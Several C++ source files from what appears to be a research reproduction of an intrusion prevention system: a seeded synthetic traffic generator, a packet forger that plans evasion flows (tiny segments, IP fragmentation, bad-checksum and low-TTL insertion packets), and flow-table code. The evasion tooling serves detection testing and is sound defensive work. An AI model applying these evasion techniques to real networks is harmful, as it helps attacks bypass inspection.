    "GET",     "POST",   "HTTP/1.1", "Host:",   "Accept:",  "text/html",
    "gzip",    "keep",   "alive",    "Cookie:", "session",  "id",
    "Mozilla", "en-US",  "chunked",  "Length:", "200",      "OK",
    "div",     "class",  "href",     "span",    "script",   "static",
    "image",   "png",    "cache",    "control", "no-store", "etag",
};

void append_text(Rng& rng, Bytes& out, std::size_t target) {
  while (out.size() < target) {
    const char* w = kWords[rng.below(std::size(kWords))];
    while (*w != '\0' && out.size() < target) {
      out.push_back(static_cast<std::uint8_t>(*w++));
    }
    if (out.size() < target) {
      out.push_back(rng.chance(0.1) ? std::uint8_t{'\n'} : std::uint8_t{' '});
    }
  }
}

Endpoints endpoints_for_flow(std::size_t i, Rng& rng) {
  Endpoints ep;
  ep.client = net::Ipv4Addr(10, static_cast<std::uint8_t>(1 + i / 65536 % 200),
                            static_cast<std::uint8_t>(i / 256 % 256),
                            static_cast<std::uint8_t>(i % 256));
  ep.server = net::Ipv4Addr(192, 168, static_cast<std::uint8_t>(i * 7 % 256),
                            static_cast<std::uint8_t>(i * 13 % 256));
  ep.client_port = static_cast<std::uint16_t>(1024 + rng.below(60000));
  static constexpr std::uint16_t kPorts[] = {80, 443, 25, 8080, 993, 22};
  ep.server_port = kPorts[rng.below(std::size(kPorts))];
  ep.client_isn = static_cast<std::uint32_t>(rng.next());
  ep.server_isn = static_cast<std::uint32_t>(rng.next());
  return ep;
}

/// Swap adjacent data packets of one flow's emission with probability r.
void reorder_flow(std::vector<net::Packet>& pkts, Rng& rng, double r) {
  if (r <= 0.0 || pkts.size() < 4) return;
  for (std::size_t i = 3; i + 1 < pkts.size(); ++i) {  // skip the handshake
    if (rng.chance(r)) {
      std::swap(pkts[i].frame, pkts[i + 1].frame);
      ++i;
    }
  }
}

std::vector<net::Packet> forge_benign_flow(std::size_t index,
                                           const TrafficConfig& cfg, Rng& rng,
                                           std::uint64_t start_ts,
                                           std::uint64_t* payload_bytes) {
  FlowForge f(endpoints_for_flow(index, rng), start_ts);
  f.handshake();

  const bool interactive = rng.chance(cfg.interactive_fraction);
  const std::size_t mss = rng.chance(cfg.small_mtu_fraction) ? 536 : cfg.mss;

  if (interactive) {
    // ssh/chat-like: a burst of genuinely small client segments.
    const std::size_t n = static_cast<std::size_t>(rng.range(5, 40));
    std::uint64_t off = 0;
    for (std::size_t k = 0; k < n; ++k) {
      Seg s;
      s.rel_off = off;
      s.data = generate_payload(rng, static_cast<std::size_t>(rng.range(1, 24)),
                                cfg.text_fraction);
      off += s.data.size();
      *payload_bytes += s.data.size();
      f.client_segment(s);
      if (cfg.with_acks && k % 2 == 1) f.server_ack();
    }
    f.close();
  } else {
    // Request/response: small request, heavy-tailed response.
    const Bytes request = generate_payload(
        rng,
        static_cast<std::size_t>(rng.range(cfg.min_request, cfg.max_request)),
        cfg.text_fraction);
    *payload_bytes += request.size();
    f.client_segments(plan_plain(request, mss, false));
    if (cfg.with_acks) f.server_ack();

    const std::size_t resp_len = static_cast<std::size_t>(
        rng.pareto(cfg.pareto_alpha, cfg.min_response, cfg.max_response));
    const Bytes response = generate_payload(rng, resp_len, cfg.text_fraction);
    *payload_bytes += response.size();
    f.server_data(response, mss);
    f.close();
  }

  std::vector<net::Packet> pkts = f.take();
  reorder_flow(pkts, rng, cfg.reorder_rate);
  return pkts;
}

std::vector<net::Packet> forge_attack_flow(std::size_t index,
                                           const TrafficConfig& cfg, Rng& rng,
                                           std::uint64_t start_ts,
                                           const core::SignatureSet& sigs,
                                           const AttackMix& mix,
                                           std::uint64_t* payload_bytes) {
  // An otherwise benign-looking payload with one signature embedded.
  const core::Signature& sig =
      sigs[static_cast<std::uint32_t>(rng.below(sigs.size()))];
  const std::size_t padding =
      static_cast<std::size_t>(rng.range(200, 4000));
  Bytes stream = generate_payload(rng, padding, cfg.text_fraction);
  const std::size_t pos =
      static_cast<std::size_t>(rng.below(stream.size() - sig.bytes.size()));
  std::copy(sig.bytes.begin(), sig.bytes.end(),
            stream.begin() + static_cast<std::ptrdiff_t>(pos));
  *payload_bytes += stream.size();

  EvasionParams params = mix.params;
  params.mss = cfg.mss;
  params.sig_lo = pos;
  params.sig_hi = pos + sig.bytes.size();
  return forge_evasion(mix.kind, endpoints_for_flow(index, rng), stream,
                       params, rng, start_ts);
}

GeneratedTrace generate(const TrafficConfig& cfg,
                        const core::SignatureSet* sigs, const AttackMix* mix,
                        Rng& rng) {
  GeneratedTrace out;
  out.flows = cfg.flows;

  std::vector<std::vector<net::Packet>> per_flow;
  per_flow.reserve(cfg.flows);
  for (std::size_t i = 0; i < cfg.flows; ++i) {
    const std::uint64_t start = cfg.start_ts_usec + i * cfg.flow_spacing_usec;
    const bool attack = mix != nullptr && rng.chance(mix->attack_fraction);
    if (attack) {
      ++out.attack_flows;
      per_flow.push_back(forge_attack_flow(i, cfg, rng, start, *sigs, *mix,
                                           &out.payload_bytes));
    } else {
      per_flow.push_back(
          forge_benign_flow(i, cfg, rng, start, &out.payload_bytes));
    }
  }

  std::size_t total = 0;
  for (const auto& v : per_flow) total += v.size();
  out.packets.reserve(total);
  for (auto& v : per_flow) {
    for (auto& p : v) out.packets.push_back(std::move(p));
  }
  std::stable_sort(out.packets.begin(), out.packets.end(),
                   [](const net::Packet& a, const net::Packet& b) {
                     return a.ts_usec < b.ts_usec;
                   });
  if (cfg.encap.framing != net::Framing::v4) {
    for (net::Packet& p : out.packets) p.frame = net::reframe(cfg.encap, p.frame);
  }
  for (const auto& p : out.packets) out.total_bytes += p.frame.size();
  return out;
}

GeneratedTrace generate_churn_impl(const ChurnConfig& cfg, Rng& rng) {
  GeneratedTrace out;
  out.flows = cfg.total_flows;

  // Stretch each flow's packet pacing so its lifetime spans roughly
  // `concurrent_flows` birth slots: that is what makes the target
  // concurrency a steady state rather than a startup transient.
  const std::uint64_t lifetime =
      std::max<std::uint64_t>(1, cfg.concurrent_flows) *
      std::max<std::uint64_t>(1, cfg.birth_spacing_usec);

  std::vector<std::vector<net::Packet>> per_flow;
  per_flow.reserve(cfg.total_flows);
  for (std::size_t i = 0; i < cfg.total_flows; ++i) {
    const std::uint64_t start =
        cfg.start_ts_usec + i * cfg.birth_spacing_usec;
    const Bytes payload = generate_payload(
        rng,
        static_cast<std::size_t>(rng.range(cfg.min_payload, cfg.max_payload)),
        cfg.text_fraction);
    out.payload_bytes += payload.size();
    const std::vector<Seg> plan = plan_plain(payload, cfg.mss, false);

    // handshake(3) + data + one server ACK + close(<=3), paced across the
    // flow's lifetime.
    const std::uint64_t npkts = 3 + plan.size() + 1 + 3;
    FlowForge f(endpoints_for_flow(i, rng), start,
                std::max<std::uint64_t>(1, lifetime / npkts));
    f.handshake();
    f.client_segments(plan);
    f.server_ack();

    const double roll = rng.uniform();
    if (roll < cfg.fin_fraction) {
      f.close();
      ++out.fin_flows;
    } else if (roll < cfg.fin_fraction + cfg.rst_fraction) {
      f.client_rst();
      ++out.rst_flows;
    } else {
      ++out.abandoned_flows;  // goes silent: idle-timeout food
    }
    per_flow.push_back(f.take());
  }

  std::size_t total = 0;
  for (const auto& v : per_flow) total += v.size();
  out.packets.reserve(total);
  for (auto& v : per_flow) {
    for (auto& p : v) out.packets.push_back(std::move(p));
  }
  std::stable_sort(out.packets.begin(), out.packets.end(),
                   [](const net::Packet& a, const net::Packet& b) {
                     return a.ts_usec < b.ts_usec;
                   });
  for (const auto& p : out.packets) out.total_bytes += p.frame.size();
  return out;
}

}  // namespace

Bytes generate_payload(Rng& rng, std::size_t n, double text_fraction) {
  Bytes out;
  out.reserve(n);
  if (rng.chance(text_fraction)) {
    append_text(rng, out, n);
  } else {
    out = rng.random_bytes(n);
  }
  return out;
}

GeneratedTrace generate_benign(const TrafficConfig& cfg) {
  Rng rng(cfg.seed);
  return generate(cfg, nullptr, nullptr, rng);
}

GeneratedTrace generate_benign(const TrafficConfig& cfg, Rng& rng) {
  return generate(cfg, nullptr, nullptr, rng);
}

GeneratedTrace generate_mixed(const TrafficConfig& cfg,
                              const core::SignatureSet& sigs,
                              const AttackMix& mix) {
  Rng rng(cfg.seed);
  return generate(cfg, &sigs, &mix, rng);
}

GeneratedTrace generate_mixed(const TrafficConfig& cfg,
                              const core::SignatureSet& sigs,
                              const AttackMix& mix, Rng& rng) {
  return generate(cfg, &sigs, &mix, rng);
}

GeneratedTrace generate_churn(const ChurnConfig& cfg) {
  Rng rng(cfg.seed);
  return generate_churn_impl(cfg, rng);
}

GeneratedTrace generate_churn(const ChurnConfig& cfg, Rng& rng) {
  return generate_churn_impl(cfg, rng);
}

}  // namespace sdt::evasion
