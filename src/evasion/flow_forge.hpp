// FlowForge: materialize TCP conversations as captured packets.
//
// Attacks and the traffic generator first *plan* a segment sequence (what
// bytes at what relative stream offsets, in what order) and then forge the
// actual IPv4/TCP packets with correct checksums. Keeping the plan explicit
// makes the evasion transforms composable and unit-testable without packet
// parsing.
#pragma once

#include <cstdint>
#include <vector>

#include "net/addr.hpp"
#include "net/builder.hpp"
#include "net/packet.hpp"
#include "util/bytes.hpp"

namespace sdt::evasion {

/// The two endpoints of a forged connection.
struct Endpoints {
  net::Ipv4Addr client{10, 0, 0, 1};
  net::Ipv4Addr server{10, 0, 0, 2};
  std::uint16_t client_port = 40000;
  std::uint16_t server_port = 80;
  std::uint32_t client_isn = 1000;
  std::uint32_t server_isn = 5000;
};

/// One planned client->server segment: payload at a relative offset of the
/// client's data stream (0 = first byte after the SYN).
///
/// The insertion-attack fields model packets the *IPS* sees but the victim
/// never accepts: a corrupted checksum (receiver drops it), a TTL too low
/// to reach the victim, or urgent-mode bytes the receiving application
/// consumes out of band.
struct Seg {
  std::uint64_t rel_off = 0;
  Bytes data;
  bool fin = false;
  bool urg = false;
  std::uint16_t urgent_pointer = 0;
  bool corrupt_checksum = false;
  std::uint8_t ttl = 64;
};

/// A planned conversation: handshake, client segments (possibly reordered,
/// overlapping, or hostile), optional server echo data.
class FlowForge {
 public:
  FlowForge(Endpoints ep, std::uint64_t start_ts_usec,
            std::uint64_t gap_usec = 50);

  /// SYN, SYN|ACK, ACK.
  void handshake();

  /// Emit one planned client segment verbatim.
  void client_segment(const Seg& seg);

  /// Emit all planned segments in plan order.
  void client_segments(const std::vector<Seg>& plan) {
    for (const Seg& s : plan) client_segment(s);
  }

  /// In-order server->client data (for bidirectional scenarios).
  void server_data(ByteView stream, std::size_t mss);

  /// Pure ACK from the server covering everything sent so far.
  void server_ack();

  /// Client FIN (bare) + server FIN|ACK + client ACK.
  void close();

  /// Abortive close: one sequence-valid client RST at the current stream
  /// point. No FIN exchange, the peer goes silent — the IPS must tear the
  /// flow down from this single packet (after its linger window).
  void client_rst();

  /// A fragmented client segment: the TCP packet is built, then split into
  /// IPv4 fragments of at most `frag_payload` bytes each, emitted in order
  /// or reversed.
  void client_segment_fragmented(const Seg& seg, std::size_t frag_payload,
                                 bool reverse_order = false);

  /// Arbitrary pre-built IPv4 datagram (hostile fragment crafting).
  void raw_datagram(Bytes datagram);

  std::uint64_t now() const { return ts_; }
  const Endpoints& endpoints() const { return ep_; }

  /// The forged conversation, in emission order.
  std::vector<net::Packet> take() { return std::move(pkts_); }

 private:
  Bytes client_packet(const Seg& seg, std::uint8_t flags) const;
  void emit(Bytes datagram);

  Endpoints ep_;
  std::uint64_t ts_;
  std::uint64_t gap_;
  std::uint64_t client_sent_ = 0;  // highest rel_off+len emitted
  std::uint64_t server_sent_ = 0;
  std::uint16_t ip_id_ = 1;
  std::vector<net::Packet> pkts_;
};

// ---------------------------------------------------------------------------
// Segment planners (the evasion building blocks).
// ---------------------------------------------------------------------------

/// In-order segmentation at `mss` bytes per segment; FIN rides the last
/// data segment when `fin_on_last`.
std::vector<Seg> plan_plain(ByteView stream, std::size_t mss,
                            bool fin_on_last = true);

/// FragRoute-style tiny segments: every segment carries `seg_size` bytes.
std::vector<Seg> plan_tiny(ByteView stream, std::size_t seg_size);

/// Split only a window [lo, hi) of the stream into tiny segments (targeted
/// at a known signature position); the rest ships at `mss`.
std::vector<Seg> plan_tiny_window(ByteView stream, std::size_t mss,
                                  std::size_t seg_size, std::size_t lo,
                                  std::size_t hi);

}  // namespace sdt::evasion
