// Synthetic benign/mixed traffic — the reproduction's substitute for the
// paper's real traces (see DESIGN.md, substitutions table).
//
// The generator controls exactly the trace properties the evaluation
// depends on:
//   * packet-size mix (the classic tri-modal Internet profile:
//     ACK-sized / ~576 B path-MTU / MSS-sized),
//   * heavy-tailed flow sizes (bounded-Pareto response lengths),
//   * flow concurrency (staggered starts, interleaved emission),
//   * benign anomaly rates: interactive flows with genuinely small
//     segments, and a configurable packet reordering rate,
//   * payload content class (random binary vs. HTTP-like text) which
//     drives the piece false-positive rate.
// Everything is seeded, so every experiment is reproducible bit-for-bit.
#pragma once

#include <cstdint>
#include <vector>

#include "core/signature.hpp"
#include "evasion/transforms.hpp"
#include "net/encap.hpp"
#include "net/packet.hpp"
#include "util/rng.hpp"

namespace sdt::evasion {

struct TrafficConfig {
  std::size_t flows = 200;
  std::uint64_t seed = 1;
  std::uint64_t start_ts_usec = 1000ull * 1000 * 1000;
  /// Microseconds between consecutive flow starts (controls concurrency).
  std::uint64_t flow_spacing_usec = 500;
  std::size_t mss = 1460;
  /// Fraction of flows that are interactive (ssh/chat-like): many small
  /// client segments. These are the honest cost of small-segment diversion.
  double interactive_fraction = 0.02;
  /// Per-packet probability that a data packet is swapped with its
  /// successor within the flow (benign network reordering).
  double reorder_rate = 0.0;
  /// Fraction of flows segmented at 536 bytes instead of the MSS (the
  /// legacy path-MTU mode of the tri-modal mix).
  double small_mtu_fraction = 0.15;
  /// Fraction of payload bytes drawn from HTTP-like text (vs. random
  /// binary).
  double text_fraction = 0.5;
  /// Client request size range (uniform).
  std::size_t min_request = 80;
  std::size_t max_request = 700;
  /// Server response size range (bounded Pareto, alpha below).
  std::size_t min_response = 300;
  std::size_t max_response = 256 * 1024;
  double pareto_alpha = 1.2;
  /// Emit server ACKs for client data (adds the ACK mode to the mix).
  bool with_acks = true;
  /// Wider-universe framing: every forged packet is carried through
  /// net::reframe as a byte-preserving post-pass (v4 is the identity and
  /// costs nothing). Experiments replay the re-framed trace with
  /// encap.link() — anomaly censuses and detection verdicts must not move.
  net::EncapSpec encap;
};

struct GeneratedTrace {
  std::vector<net::Packet> packets;
  std::size_t flows = 0;
  std::uint64_t total_bytes = 0;     // sum of frame bytes
  std::uint64_t payload_bytes = 0;   // application bytes carried
  std::size_t attack_flows = 0;      // mixed traces only
  // Churn traces only: how each flow ended (fin + rst + abandoned == flows).
  std::size_t fin_flows = 0;
  std::size_t rst_flows = 0;
  std::size_t abandoned_flows = 0;
};

/// Purely benign traffic.
GeneratedTrace generate_benign(const TrafficConfig& cfg);
/// Same, drawing from a caller-owned RNG (cfg.seed is ignored): lets a
/// larger seeded experiment — the fuzzer's cover traffic, a multi-trace
/// sweep — chain generator state explicitly so the whole composition is
/// reproducible from one seed. All randomness in this module flows through
/// the passed RNG; there is no hidden global state.
GeneratedTrace generate_benign(const TrafficConfig& cfg, Rng& rng);

/// Benign traffic with a fraction of flows replaced by evasion attacks.
/// Each attack flow embeds one randomly chosen signature at a random
/// position of an otherwise benign payload and delivers it via `kind`.
struct AttackMix {
  double attack_fraction = 0.01;
  EvasionKind kind = EvasionKind::tiny_segments;
  EvasionParams params;
};
GeneratedTrace generate_mixed(const TrafficConfig& cfg,
                              const core::SignatureSet& sigs,
                              const AttackMix& mix);
/// Explicit-RNG form (cfg.seed ignored; see generate_benign overload).
GeneratedTrace generate_mixed(const TrafficConfig& cfg,
                              const core::SignatureSet& sigs,
                              const AttackMix& mix, Rng& rng);

/// Flow-churn workload: the lifecycle stressor behind the 1M-flow soak.
///
/// `total_flows` short connections are born at a steady `birth_spacing_usec`
/// cadence; each flow's packet pacing is stretched so its lifetime covers
/// roughly `concurrent_flows` birth slots — i.e. ~`concurrent_flows`
/// connections are live at any instant, and the population turns over
/// continuously. Flows end three ways (the mix is the point: it drives
/// every teardown path of the flow-table lifecycle):
///   * FIN  — graceful close; both directions FIN, then the linger window,
///   * RST  — abortive close; one sequence-valid reset, then silence,
///   * abandoned — the flow just stops talking (idle-timeout food for the
///     timing wheel).
/// Payloads are small on purpose: churn stresses state management, not
/// payload scanning.
struct ChurnConfig {
  /// Target live-connection population (approximate, by construction).
  std::size_t concurrent_flows = 1000;
  /// Connections born over the whole trace.
  std::size_t total_flows = 10000;
  std::uint64_t seed = 1;
  std::uint64_t start_ts_usec = 1000ull * 1000 * 1000;
  /// Microseconds between consecutive flow births.
  std::uint64_t birth_spacing_usec = 100;
  std::size_t mss = 1460;
  /// Application bytes per flow (uniform).
  std::size_t min_payload = 64;
  std::size_t max_payload = 2048;
  double text_fraction = 0.5;
  /// Close mix: FIN / RST / (remainder) abandoned.
  double fin_fraction = 0.6;
  double rst_fraction = 0.3;
};

GeneratedTrace generate_churn(const ChurnConfig& cfg);
/// Explicit-RNG form (cfg.seed ignored; see generate_benign overload).
GeneratedTrace generate_churn(const ChurnConfig& cfg, Rng& rng);

/// One payload buffer in the generator's content model (exposed for E5).
Bytes generate_payload(Rng& rng, std::size_t n, double text_fraction);

}  // namespace sdt::evasion
