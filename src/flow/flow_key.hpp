// Bidirectional flow identity: the canonicalized TCP/UDP 5-tuple.
//
// Both directions of a connection map to the same FlowKey; the direction of
// a particular packet relative to the canonical order is reported alongside
// so per-direction state (sequence tracking) stays separate.
#pragma once

#include <compare>
#include <cstdint>
#include <string>

#include "net/addr.hpp"
#include "net/packet.hpp"
#include "util/hash.hpp"

namespace sdt::flow {

enum class Direction : std::uint8_t {
  a_to_b = 0,  // packet travels from the canonical 'a' endpoint to 'b'
  b_to_a = 1,
};

inline Direction reverse(Direction d) {
  return d == Direction::a_to_b ? Direction::b_to_a : Direction::a_to_b;
}

struct FlowKey {
  net::IpAddr a_ip;
  net::IpAddr b_ip;
  std::uint16_t a_port = 0;
  std::uint16_t b_port = 0;
  std::uint8_t proto = 0;

  friend constexpr auto operator<=>(const FlowKey&, const FlowKey&) = default;

  std::uint64_t hash() const {
    std::uint64_t h = hash_combine(a_ip.hi() ^ mix64(a_ip.lo()),
                                   b_ip.hi() ^ mix64(b_ip.lo()));
    h = hash_combine(h, (std::uint64_t{a_port} << 32) |
                            (std::uint64_t{b_port} << 16) | proto);
    return h;
  }

  std::string str() const {
    return a_ip.str() + ":" + std::to_string(a_port) + " <-> " + b_ip.str() +
           ":" + std::to_string(b_port) + "/" + std::to_string(proto);
  }
};

/// A packet's flow identity: canonical key + this packet's direction.
struct FlowRef {
  FlowKey key;
  Direction dir = Direction::a_to_b;
};

/// Canonicalize (src,dst,sport,dport,proto): the numerically smaller
/// (ip,port) endpoint becomes 'a'.
inline FlowRef make_flow_ref(net::IpAddr src, net::IpAddr dst,
                             std::uint16_t sport, std::uint16_t dport,
                             std::uint8_t proto) {
  FlowRef r;
  r.key.proto = proto;
  const bool src_first =
      src < dst || (src == dst && sport <= dport);
  if (src_first) {
    r.key.a_ip = src;
    r.key.b_ip = dst;
    r.key.a_port = sport;
    r.key.b_port = dport;
    r.dir = Direction::a_to_b;
  } else {
    r.key.a_ip = dst;
    r.key.b_ip = src;
    r.key.a_port = dport;
    r.key.b_port = sport;
    r.dir = Direction::b_to_a;
  }
  return r;
}

/// IPv4 convenience: addresses map through IpAddr::v4, preserving the
/// canonical ordering the 64-bit packing used to produce.
inline FlowRef make_flow_ref(net::Ipv4Addr src, net::Ipv4Addr dst,
                             std::uint16_t sport, std::uint16_t dport,
                             std::uint8_t proto) {
  return make_flow_ref(net::IpAddr::v4(src), net::IpAddr::v4(dst), sport,
                       dport, proto);
}

/// Flow identity of a parsed packet (v4 or v6 inner header, any
/// encapsulation). Requires pv.has_tcp or pv.has_udp.
inline FlowRef make_flow_ref(const net::PacketView& pv) {
  const std::uint16_t sport = pv.has_tcp ? pv.tcp.src_port() : pv.udp.src_port();
  const std::uint16_t dport = pv.has_tcp ? pv.tcp.dst_port() : pv.udp.dst_port();
  const std::uint8_t proto =
      static_cast<std::uint8_t>(pv.has_tcp ? net::IpProto::tcp
                                           : net::IpProto::udp);
  return make_flow_ref(pv.src_ip(), pv.dst_ip(), sport, dport, proto);
}

}  // namespace sdt::flow
