// Bounded flow table: open-addressing index over a slab of per-flow records,
// with an intrusive LRU list for capacity eviction and an idle-timeout sweep.
//
// Built rather than borrowed because the paper's evaluation hinges on
// *byte-exact* per-flow state accounting at 1M-connection scale:
// memory_bytes() reports the true footprint (slab + index), which the
// E2 state-memory experiment compares between the fast path and the
// conventional IPS.
#pragma once

#include <cstdint>
#include <functional>
#include <limits>
#include <vector>

#include "flow/flow_key.hpp"
#include "util/error.hpp"

namespace sdt::flow {

/// Hash table keyed by FlowKey holding V per flow. Not thread-safe (one
/// table per pipeline lane, as in real line-card designs).
template <typename V>
class FlowTable {
 public:
  struct Config {
    std::size_t max_flows = 1 << 20;
  };

  /// Called with the key and value of a flow forced out (LRU eviction or
  /// idle expiry) before the slot is reused.
  using EvictFn = std::function<void(const FlowKey&, V&)>;

  explicit FlowTable(Config cfg) : max_flows_(cfg.max_flows) {
    if (max_flows_ == 0) throw InvalidArgument("FlowTable: max_flows == 0");
    slab_.reserve(max_flows_);
    bucket_count_ = 1;
    while (bucket_count_ < max_flows_ * 2) bucket_count_ <<= 1;
    buckets_.assign(bucket_count_, kEmpty);
  }

  void set_evict_callback(EvictFn fn) { evict_fn_ = std::move(fn); }

  /// Factory for new values (defaults to value-initialization). Lets callers
  /// stamp configuration into each fresh per-flow record.
  void set_value_factory(std::function<V()> fn) { factory_ = std::move(fn); }

  std::size_t size() const { return live_; }
  std::size_t max_flows() const { return max_flows_; }
  std::uint64_t evictions() const { return evictions_; }
  std::uint64_t expirations() const { return expirations_; }

  /// Total bytes held: slab storage + bucket index + object overhead.
  std::size_t memory_bytes() const {
    return slab_.capacity() * sizeof(Entry) +
           buckets_.capacity() * sizeof(std::uint32_t) + sizeof(*this);
  }

  /// Bytes per tracked flow at current occupancy (the E2 metric).
  double bytes_per_flow() const {
    return live_ == 0 ? 0.0
                      : static_cast<double>(memory_bytes()) /
                            static_cast<double>(live_);
  }

  /// Look up without touching LRU order. nullptr if absent.
  V* find(const FlowKey& key) {
    const std::uint32_t idx = find_slot(key);
    return idx == kNone ? nullptr : &slab_[idx].value;
  }
  const V* find(const FlowKey& key) const {
    const std::uint32_t idx = find_slot(key);
    return idx == kNone ? nullptr : &slab_[idx].value;
  }

  /// Find or default-construct the flow, refreshing its LRU position and
  /// last-seen time. Evicts the least-recently-used flow when full.
  /// `created`, if non-null, reports whether a new record was made.
  V& get_or_create(const FlowKey& key, std::uint64_t now_usec,
                   bool* created = nullptr) {
    std::uint32_t idx = find_slot(key);
    if (idx != kNone) {
      touch(idx, now_usec);
      if (created) *created = false;
      return slab_[idx].value;
    }
    if (created) *created = true;
    if (live_ >= max_flows_) evict_lru();
    idx = allocate(key, now_usec);
    insert_index(key.hash(), idx);
    lru_push_front(idx);
    ++live_;
    return slab_[idx].value;
  }

  /// Remove a flow if present. Returns true when something was erased.
  bool erase(const FlowKey& key) {
    const std::uint32_t idx = find_slot(key);
    if (idx == kNone) return false;
    remove_entry(idx);
    return true;
  }

  /// Expire flows idle for at least `idle_usec`. Returns the count expired.
  std::size_t expire_idle(std::uint64_t now_usec, std::uint64_t idle_usec) {
    std::size_t n = 0;
    while (lru_tail_ != kNone) {
      Entry& e = slab_[lru_tail_];
      if (now_usec - e.last_seen < idle_usec) break;
      ++expirations_;
      if (evict_fn_) evict_fn_(e.key, e.value);
      remove_entry(lru_tail_);
      ++n;
    }
    return n;
  }

  /// Visit all live flows (unspecified order).
  template <typename Fn>
  void for_each(Fn&& fn) const {
    for (std::uint32_t i = lru_head_; i != kNone; i = slab_[i].lru_next) {
      fn(slab_[i].key, slab_[i].value);
    }
  }
  template <typename Fn>
  void for_each(Fn&& fn) {
    for (std::uint32_t i = lru_head_; i != kNone; i = slab_[i].lru_next) {
      fn(slab_[i].key, slab_[i].value);
    }
  }

 private:
  struct Entry {
    FlowKey key;
    V value{};
    std::uint64_t last_seen = 0;
    std::uint32_t lru_prev = kNone;
    std::uint32_t lru_next = kNone;
    std::uint32_t free_next = kNone;  // freelist link when dead
    bool live = false;
  };

  static constexpr std::uint32_t kNone = std::numeric_limits<std::uint32_t>::max();
  static constexpr std::uint32_t kEmpty = kNone;
  static constexpr std::uint32_t kTombstone = kNone - 1;

  // ---- index -------------------------------------------------------------

  std::size_t bucket_of(std::uint64_t hash) const {
    return static_cast<std::size_t>(hash) & (bucket_count_ - 1);
  }

  std::uint32_t find_slot(const FlowKey& key) const {
    std::size_t b = bucket_of(key.hash());
    for (std::size_t probes = 0; probes < bucket_count_; ++probes) {
      const std::uint32_t v = buckets_[b];
      if (v == kEmpty) return kNone;
      if (v != kTombstone && slab_[v].key == key) return v;
      b = (b + 1) & (bucket_count_ - 1);
    }
    return kNone;
  }

  void insert_index(std::uint64_t hash, std::uint32_t idx) {
    std::size_t b = bucket_of(hash);
    while (buckets_[b] != kEmpty && buckets_[b] != kTombstone) {
      b = (b + 1) & (bucket_count_ - 1);
    }
    if (buckets_[b] == kTombstone) --tombstones_;
    buckets_[b] = idx;
  }

  void erase_index(const FlowKey& key, std::uint32_t idx) {
    std::size_t b = bucket_of(key.hash());
    for (std::size_t probes = 0; probes < bucket_count_; ++probes) {
      if (buckets_[b] == idx) {
        buckets_[b] = kTombstone;
        ++tombstones_;
        break;
      }
      b = (b + 1) & (bucket_count_ - 1);
    }
    // Rebuild only after the dying entry is both tombstoned and marked
    // not-live, so it cannot be resurrected into the fresh index.
    if (tombstones_ > bucket_count_ / 4) rebuild_index();
  }

  void rebuild_index() {
    buckets_.assign(bucket_count_, kEmpty);
    tombstones_ = 0;
    for (std::uint32_t i = 0; i < slab_.size(); ++i) {
      if (slab_[i].live) insert_index(slab_[i].key.hash(), i);
    }
  }

  // ---- slab --------------------------------------------------------------

  std::uint32_t allocate(const FlowKey& key, std::uint64_t now_usec) {
    std::uint32_t idx;
    if (free_head_ != kNone) {
      idx = free_head_;
      free_head_ = slab_[idx].free_next;
    } else {
      idx = static_cast<std::uint32_t>(slab_.size());
      slab_.emplace_back();
    }
    Entry& e = slab_[idx];
    e.key = key;
    e.value = factory_ ? factory_() : V{};
    e.last_seen = now_usec;
    e.lru_prev = e.lru_next = kNone;
    e.live = true;
    return idx;
  }

  void remove_entry(std::uint32_t idx) {
    Entry& e = slab_[idx];
    e.live = false;  // must precede erase_index: a rebuild must skip us
    erase_index(e.key, idx);
    lru_unlink(idx);
    e.value = V{};  // release any heap the value holds
    e.free_next = free_head_;
    free_head_ = idx;
    --live_;
  }

  void evict_lru() {
    const std::uint32_t victim = lru_tail_;
    ++evictions_;
    if (evict_fn_) evict_fn_(slab_[victim].key, slab_[victim].value);
    remove_entry(victim);
  }

  // ---- LRU list (head = most recent) --------------------------------------

  void lru_push_front(std::uint32_t idx) {
    Entry& e = slab_[idx];
    e.lru_prev = kNone;
    e.lru_next = lru_head_;
    if (lru_head_ != kNone) slab_[lru_head_].lru_prev = idx;
    lru_head_ = idx;
    if (lru_tail_ == kNone) lru_tail_ = idx;
  }

  void lru_unlink(std::uint32_t idx) {
    Entry& e = slab_[idx];
    if (e.lru_prev != kNone) {
      slab_[e.lru_prev].lru_next = e.lru_next;
    } else {
      lru_head_ = e.lru_next;
    }
    if (e.lru_next != kNone) {
      slab_[e.lru_next].lru_prev = e.lru_prev;
    } else {
      lru_tail_ = e.lru_prev;
    }
    e.lru_prev = e.lru_next = kNone;
  }

  void touch(std::uint32_t idx, std::uint64_t now_usec) {
    slab_[idx].last_seen = now_usec;
    if (lru_head_ == idx) return;
    lru_unlink(idx);
    lru_push_front(idx);
  }

  std::size_t max_flows_;
  std::size_t bucket_count_ = 0;
  std::size_t tombstones_ = 0;
  std::size_t live_ = 0;
  std::uint64_t evictions_ = 0;
  std::uint64_t expirations_ = 0;
  std::uint32_t lru_head_ = kNone;
  std::uint32_t lru_tail_ = kNone;
  std::uint32_t free_head_ = kNone;
  std::vector<Entry> slab_;
  std::vector<std::uint32_t> buckets_;
  EvictFn evict_fn_;
  std::function<V()> factory_;
};

}  // namespace sdt::flow
