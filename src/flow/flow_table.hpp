// Bounded flow table: open-addressing index over a slab of per-flow records,
// with an intrusive LRU list for capacity eviction, an idle-timeout sweep,
// and a timing-wheel lifecycle so 1M-flow churn is a steady state.
//
// Built rather than borrowed because the paper's evaluation hinges on
// *byte-exact* per-flow state accounting at 1M-connection scale:
// memory_bytes() reports the true footprint (slab + index + wheel), which
// the E2 state-memory experiment compares between the fast path and the
// conventional IPS.
//
// Lifecycle model (the conntrack shape): every live flow carries a deadline
// on a single-level timing wheel. A touched flow is rescheduled at
// now + idle_timeout; a flow whose close was observed (both FINs, or a
// sequence-valid RST) is marked *closing* and lingers only linger_usec —
// long enough to absorb the final ACK and benign retransmits, short enough
// that a churning workload reclaims its slots in seconds, not minutes.
// expire_due(now) advances the wheel and is O(slots walked + flows
// expired), independent of table occupancy — the property that makes a
// 1M-flow table with heavy birth/death sweepable from a packet loop.
#pragma once

#include <algorithm>
#include <cstdint>
#include <functional>
#include <limits>
#include <vector>

#include "flow/flow_key.hpp"
#include "util/error.hpp"

namespace sdt::flow {

/// Hash table keyed by FlowKey holding V per flow. Not thread-safe (one
/// table per pipeline lane, as in real line-card designs).
template <typename V>
class FlowTable {
 public:
  struct Config {
    std::size_t max_flows = 1 << 20;
    /// Wheel deadline for a live flow: last packet + this. 0 disables the
    /// wheel entirely (pure LRU table, the pre-lifecycle behaviour).
    std::uint64_t idle_timeout_usec = 0;
    /// Wheel deadline once a flow is marked closing (FIN/FIN or valid RST):
